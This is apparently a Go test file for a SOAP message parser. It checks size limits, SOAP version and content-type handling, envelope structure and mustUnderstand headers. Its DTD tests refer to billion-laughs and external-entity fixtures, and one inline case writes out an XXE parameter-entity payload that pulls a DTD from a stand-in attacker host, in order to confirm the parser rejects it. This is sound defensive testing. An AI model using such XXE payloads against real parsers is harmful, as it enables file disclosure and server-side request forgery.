package soap

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/trustbroker/trustbroker/internal/testtools"
)

const (
	env12Open = `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">`
	env11Open = `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">`
	pingBody  = `<s:Body><x:Ping xmlns:x="urn:example"/></s:Body>`
)

// env12 wraps header blocks and a body in a SOAP 1.2 envelope.
func env12(header, body string) string {
	h := ""
	if header != "" {
		h = "<s:Header>" + header + "</s:Header>"
	}
	return env12Open + h + body + "</s:Envelope>"
}

func TestParseLimits(t *testing.T) {
	nested := func(depth int) string {
		return env12("", "<s:Body>"+strings.Repeat("<x:a xmlns:x=\"urn:x\">", depth)+strings.Repeat("</x:a>", depth)+"</s:Body>")
	}
	wide := func(n int) string {
		return env12("", "<s:Body><x:list xmlns:x=\"urn:x\">"+strings.Repeat("<x:i/>", n)+"</x:list></s:Body>")
	}
	attrs := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, ` a%d="v"`, i)
		}
		return env12("", "<s:Body><x:p xmlns:x=\"urn:x\""+b.String()+"/></s:Body>")
	}
	small := Limits{MaxBytes: 4096, MaxDepth: 10, MaxElements: 50, MaxAttributes: 8}
	tests := []struct {
		name    string
		doc     string
		lim     Limits
		wantErr error // nil: accepted
	}{
		{"depth at limit", nested(8), small, nil}, // Envelope, Body + 8 = 10
		{"depth over limit", nested(9), small, ErrTooDeep},
		{"elements at limit", wide(47), small, nil}, // Envelope, Body, list + 47 = 50
		{"elements over limit", wide(48), small, ErrTooManyElems},
		{"bytes over limit", env12("", "<s:Body><x:p xmlns:x=\"urn:x\">"+strings.Repeat("a", 5000)+"</x:p></s:Body>"), small, ErrTooLarge},
		{"attributes at limit", attrs(7), small, nil}, // xmlns:x + 7
		{"attributes over limit", attrs(8), small, ErrTooManyAttrs},
		{"default attribute limit is 128", attrs(128), Limits{}, ErrTooManyAttrs},
		{"defaults apply to zero limits", nested(60), Limits{}, nil},
		{"default depth is 64", nested(63), Limits{}, ErrTooDeep},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse([]byte(tt.doc), "application/soap+xml", tt.lim)
			if tt.wantErr == nil {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				return
			}
			f := mustFault(t, err, Sender)
			if !errors.Is(f, tt.wantErr) {
				t.Errorf("cause = %v, want %v", f.Cause, tt.wantErr)
			}
			if f.Reason == "" {
				t.Error("empty reason")
			}
		})
	}
}

func TestParseRefusesDTDsAndEntities(t *testing.T) {
	tests := []struct {
		name    string
		doc     []byte
		wantErr error
	}{
		{"billion laughs", testtools.ReadTestdata(t, "requests/billion-laughs.xml"), ErrDTD},
		{"external entity", testtools.ReadTestdata(t, "requests/external-entity.xml"), ErrDTD},
		{"bare DOCTYPE", []byte(`<!DOCTYPE s:Envelope>` + env12("", pingBody)), ErrDTD},
		{"parameter entity", []byte(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]>` + env12("", pingBody)), ErrDTD},
		{"undeclared entity reference", []byte(env12("", `<s:Body><x:p xmlns:x="urn:x">&xxe;</x:p></s:Body>`)), nil},
		{"processing instruction", []byte(env12("", `<s:Body><?evil data?><x:p xmlns:x="urn:x"/></s:Body>`)), ErrProcInst},
		{"second root", []byte(env12("", pingBody) + env12("", pingBody)), ErrNotOneRoot},
		{"text after root", []byte(env12("", pingBody) + "trailing"), ErrTextOutsideDoc},
		{"no-break space after root", []byte(env12("", pingBody) + "\u00a0"), ErrTextOutsideDoc},
		{"non-UTF-8 declaration", []byte(`<?xml version="1.0" encoding="ISO-8859-1"?>` + env12("", pingBody)), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env, err := Parse(tt.doc, "", Limits{})
			if env != nil {
				t.Fatal("document accepted")
			}
			f := mustFault(t, err, Sender)
			if tt.wantErr != nil && !errors.Is(f, tt.wantErr) {
				t.Errorf("cause = %v, want %v", f.Cause, tt.wantErr)
			}
			if strings.Contains(f.Reason, "passwd") || strings.Contains(f.Reason, "lol") {
				t.Errorf("reason %q echoes document content", f.Reason)
			}
		})
	}
}

func TestParseBOM(t *testing.T) {
	raw := testtools.ReadTestdata(t, "requests/soap12-bom-adal-messageid.xml")
	if !bytes.HasPrefix(raw, utf8BOM) {
		t.Fatal("test file lost its BOM")
	}
	env, err := Parse(raw, "application/soap+xml; charset=utf-8", Limits{})
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if env.Version != V12 || env.Body.Tag != "Ping" {
		t.Errorf("version %v body %q", env.Version, env.Body.Tag)
	}
}

func TestParseVersionAndContentType(t *testing.T) {
	doc11 := env11Open + pingBody + "</s:Envelope>"
	doc12 := env12("", pingBody)
	tests := []struct {
		name        string
		doc         string
		contentType string
		want        Version
		wantCode    *FaultCode
		wantAction  string
	}{
		{"1.1 text/xml", doc11, "text/xml; charset=utf-8", V11, nil, ""},
		{"1.2 soap+xml", doc12, "application/soap+xml; charset=utf-8", V12, nil, ""},
		{"1.2 with action parameter", doc12, `application/soap+xml; charset=utf-8; action="  http://docs.oasis-open.org/ws-sx/ws-trust/200512/RST/Issue "`, V12, nil, "http://docs.oasis-open.org/ws-sx/ws-trust/200512/RST/Issue"},
		{"no content type trusts the envelope", doc11, "", V11, nil, ""},
		{"media type is case-insensitive", doc12, "Application/SOAP+XML", V12, nil, ""},
		{"1.2 envelope sent as text/xml", doc12, "text/xml", 0, &VersionMismatch, ""},
		{"1.1 envelope sent as soap+xml", doc11, "application/soap+xml", 0, &VersionMismatch, ""},
		{"unknown envelope namespace", `<s:Envelope xmlns:s="http://example.test/soap">` + `<s:Body/></s:Envelope>`, "", 0, &VersionMismatch, ""},
		{"no namespace", `<Envelope><Body><Ping/></Body></Envelope>`, "", 0, &VersionMismatch, ""},
		{"root not an Envelope", `<t:RequestSecurityToken xmlns:t="http://docs.oasis-open.org/ws-sx/ws-trust/200512"/>`, "", 0, &Sender, ""},
		{"other media type", doc12, "application/json", 0, &Sender, ""},
		{"other charset", doc12, "application/soap+xml; charset=iso-8859-1", 0, &Sender, ""},
		{"malformed content type", doc12, "application/soap+xml; ===", 0, &Sender, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env, err := Parse([]byte(tt.doc), tt.contentType, Limits{})
			if tt.wantCode != nil {
				mustFault(t, err, *tt.wantCode)
				return
			}
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if env.Version != tt.want {
				t.Errorf("version = %v, want %v", env.Version, tt.want)
			}
			if env.ContentAction != tt.wantAction {
				t.Errorf("content action = %q, want %q", env.ContentAction, tt.wantAction)
			}
		})
	}
}

func TestVersionForContentType(t *testing.T) {
	for ct, want := range map[string]Version{
		"text/xml":                               V11,
		"text/xml; charset=UTF-8":                V11,
		"application/soap+xml; action=\"urn:x\"": V12,
		"":                                       0,
		"application/xml":                        0,
		"application/soap+xml; charset=\"unclosed": 0,
	} {
		if got := VersionForContentType(ct); got != want {
			t.Errorf("VersionForContentType(%q) = %v, want %v", ct, got, want)
		}
	}
}

func TestParseStructure(t *testing.T) {
	tests := []struct {
		name   string
		doc    string
		ok     bool
		reason string // substring of the fault reason
	}{
		{"header and body", env12(`<x:h xmlns:x="urn:x"/>`, pingBody), true, ""},
		{"no header", env12("", pingBody), true, ""},
		{"comments and whitespace around the body child", env12("", "<s:Body>\n<!-- c --> <x:Ping xmlns:x=\"urn:example\"/>\n</s:Body>"), true, ""},
		{"empty body", env12("", "<s:Body/>"), false, "Body is empty"},
		{"two body children", env12("", `<s:Body><x:a xmlns:x="urn:x"/><x:b xmlns:x="urn:x"/></s:Body>`), false, "exactly one"},
		{"text in body", env12("", `<s:Body>text<x:a xmlns:x="urn:x"/></s:Body>`), false, "text"},
		{"no-break space in body", env12("", "<s:Body>\u00a0<x:a xmlns:x=\"urn:x\"/></s:Body>"), false, "text"},
		{"no-break space in the Envelope", env12Open + "\u00a0" + pingBody + `</s:Envelope>`, false, "text"},
		{"no body", env12(`<x:h xmlns:x="urn:x"/>`, ""), false, "no Body"},
		{"header after body", env12Open + pingBody + `<s:Header/></s:Envelope>`, false, "unexpected element"},
		{"two bodies", env12Open + pingBody + pingBody + `</s:Envelope>`, false, "unexpected element"},
		{"unknown envelope child in 1.2", env12Open + pingBody + `<x:extra xmlns:x="urn:x"/></s:Envelope>`, false, "unexpected element"},
		{"qualified element after body in 1.1", env11Open + pingBody + `<x:extra xmlns:x="urn:x"/></s:Envelope>`, true, ""},
		{"body in the wrong namespace", `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:o="http://schemas.xmlsoap.org/soap/envelope/"><o:Body><x:p xmlns:x="urn:x"/></o:Body></s:Envelope>`, false, "unexpected element"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env, err := Parse([]byte(tt.doc), "", Limits{})
			if tt.ok {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				if env.Body == nil {
					t.Fatal("nil Body")
				}
				return
			}
			f := mustFault(t, err, Sender)
			if !strings.Contains(f.Reason, tt.reason) {
				t.Errorf("reason %q does not mention %q", f.Reason, tt.reason)
			}
		})
	}
}

func TestParseMustUnderstand(t *testing.T) {
	const (
		wsa  = `xmlns:a="http://www.w3.org/2005/08/addressing"`
		wsse = `xmlns:o="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"`
	)
	unknown := func(attrs string) string { return `<x:Custom xmlns:x="urn:custom" ` + attrs + `/>` }
	tests := []struct {
		name     string
		v        Version
		header   string
		wantCode *FaultCode
	}{
		{"unknown header with 1", V12, unknown(`s:mustUnderstand="1"`), &MustUnderstand},
		{"unknown header with true", V12, unknown(`s:mustUnderstand="true"`), &MustUnderstand},
		{"unknown header with padded true", V12, unknown(`s:mustUnderstand=" true "`), &MustUnderstand},
		{"unknown header with 0", V12, unknown(`s:mustUnderstand="0"`), nil},
		{"unknown header with false", V12, unknown(`s:mustUnderstand="false"`), nil},
		{"unknown header without attribute", V12, unknown(``), nil},
		{"invalid value", V12, unknown(`s:mustUnderstand="yes"`), &Sender},
		{"attribute in another namespace is not SOAP's", V12, unknown(`xmlns:o="urn:other" o:mustUnderstand="1"`), nil},
		{"unqualified attribute is not SOAP's", V12, unknown(`mustUnderstand="1"`), nil},
		{"addressing 2005/08", V12, `<a:Action ` + wsa + ` s:mustUnderstand="1">urn:x</a:Action><a:To ` + wsa + ` s:mustUnderstand="true">urn:y</a:To>`, nil},
		{"addressing 2004/08", V12, `<w:Action xmlns:w="http://schemas.xmlsoap.org/ws/2004/08/addressing" s:mustUnderstand="1">urn:x</w:Action>`, nil},
		{"security 1.0", V12, `<o:Security ` + wsse + ` s:mustUnderstand="1"/>`, nil},
		{"other element in secext", V12, `<o:Other ` + wsse + ` s:mustUnderstand="1"/>`, &MustUnderstand},
		{"role none is never processed", V12, unknown(`s:mustUnderstand="1" s:role="http://www.w3.org/2003/05/soap-envelope/role/none"`), nil},
		{"another role is not ours", V12, unknown(`s:mustUnderstand="1" s:role="urn:some-intermediary"`), nil},
		{"role next is ours", V12, unknown(`s:mustUnderstand="1" s:role="http://www.w3.org/2003/05/soap-envelope/role/next"`), &MustUnderstand},
		{"role ultimateReceiver is ours", V12, unknown(`s:mustUnderstand="1" s:role="http://www.w3.org/2003/05/soap-envelope/role/ultimateReceiver"`), &MustUnderstand},
		{"1.1 unknown header with 1", V11, unknown(`s:mustUnderstand="1"`), &MustUnderstand},
		{"1.1 another actor is not ours", V11, unknown(`s:mustUnderstand="1" s:actor="urn:some-intermediary"`), nil},
		{"1.1 actor next is ours", V11, unknown(`s:mustUnderstand="1" s:actor="http://schemas.xmlsoap.org/soap/actor/next"`), &MustUnderstand},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			open := env12Open
			if tt.v == V11 {
				open = env11Open
			}
			doc := open + "<s:Header>" + tt.header + "</s:Header>" + pingBody + "</s:Envelope>"
			_, err := Parse([]byte(doc), "", Limits{})
			if tt.wantCode == nil {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				return
			}
			f := mustFault(t, err, *tt.wantCode)
			if *tt.wantCode == MustUnderstand {
				if len(f.NotUnderstood) != 1 || f.NotUnderstood[0].Local == "" {
					t.Errorf("NotUnderstood = %v", f.NotUnderstood)
				}
			}
		})
	}
}

func TestParseMustUnderstandListsEveryBlock(t *testing.T) {
	doc := env12(`<x:A xmlns:x="urn:a" s:mustUnderstand="1"/><y:B xmlns:y="urn:b" s:mustUnderstand="true"/>`, pingBody)
	_, err := Parse([]byte(doc), "", Limits{})
	f := mustFault(t, err, MustUnderstand)
	want := []xml.Name{{Space: "urn:a", Local: "A"}, {Space: "urn:b", Local: "B"}}
	if fmt.Sprint(f.NotUnderstood) != fmt.Sprint(want) {
		t.Errorf("NotUnderstood = %v, want %v", f.NotUnderstood, want)
	}
	if !strings.Contains(f.Reason, "{urn:a}A") {
		t.Errorf("reason %q does not name the header", f.Reason)
	}
}

func TestEnvelopeBlocks(t *testing.T) {
	const sec = `xmlns:o="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"`
	doc := env12(
		`<o:Security `+sec+` s:role="urn:intermediary"><o:First/></o:Security>`+
			`<wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><wsse:Ours/></wsse:Security>`,
		pingBody)
	env, err := Parse([]byte(doc), "", Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(env.Header) != 2 {
		t.Fatalf("Header has %d blocks, want 2", len(env.Header))
	}
	b := env.Block(NamespaceSecext, "Security")
	if b == nil || b.ChildElements()[0].Tag != "Ours" {
		t.Fatalf("Block returned %v, want the Security header addressed to this node", b)
	}
	if n := len(env.Blocks(NamespaceSecext, "Security")); n != 1 {
		t.Errorf("Blocks returned %d, want 1", n)
	}
	if env.Block("urn:none", "Security") != nil {
		t.Error("Block matched on local name alone")
	}
}
